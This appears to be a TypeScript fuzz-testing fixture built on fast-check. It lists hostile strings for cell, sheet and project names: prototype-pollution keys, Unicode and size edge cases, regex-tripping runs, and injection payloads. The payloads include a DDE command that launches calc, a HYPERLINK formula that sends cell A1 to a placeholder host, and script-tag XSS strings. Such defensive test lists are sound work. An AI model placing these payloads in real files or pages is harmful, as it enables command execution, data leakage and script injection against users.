import fc from "fast-check";

/** The most that a cell of Excel holds. */
export const LONGEST_TEXT = 32_767;

/** Names that every object of JavaScript answers to. */
export const PROTOTYPE_NAMES = [
  "__proto__",
  "constructor",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "prototype",
] as const;

/** What a cell, a sheet or a project may be called by somebody who means harm, or by accident. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...PROTOTYPE_NAMES,
  '=HYPERLINK("https://example.invalid/?"&A1,"点我")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "'=1",
  "<img src=x onerror=alert(1)>",
  "</script><script>alert(1)</script>",
  "&lt;b&gt;&amp;&#0;",
  "]]><x/>",
  "_x000D_ _x005F_x0041_ _x_",
  "${1}$&$1$$",
  "\\u0000%s%n{0}",
  "\u0000\u0001\u0008\u000b\u000c\u001f\u007f\u009b",
  "\u001b[2J\u001b]0;x\u0007",
  "甲\r\n乙\r丙\n丁\u2028戊\u2029",
  "\ud800",
  "\udc00\ud800",
  "甲\ud83d",
  "\ufffe\uffff\ufeff",
  "\u202e反\u202c\u2066正\u2069\u200b\u200f",
  "e\u0301".repeat(200),
  "👨‍👩‍👧‍👦".repeat(50),
  "9".repeat(400),
  "1e308",
  "≥1e999999999个",
  "甲".repeat(LONGEST_TEXT),
];

/** Characters of which a long run is what a careless pattern trips over. */
export const REPEATED = [
  "。",
  ";",
  "（",
  "(",
  "1",
  "1,",
  "一",
  "万",
  "提升",
  "完成",
  " ",
  "\n",
  "①",
  "到",
  "2024年1月",
] as const;

/** One of the texts above, a long run, or any text at all. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS.filter(({ length }) => length < 1000)),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.tuple(fc.constantFrom(...REPEATED), fc.nat(300)).map(([text, count]) => `${text.repeat(count)}x`),
);
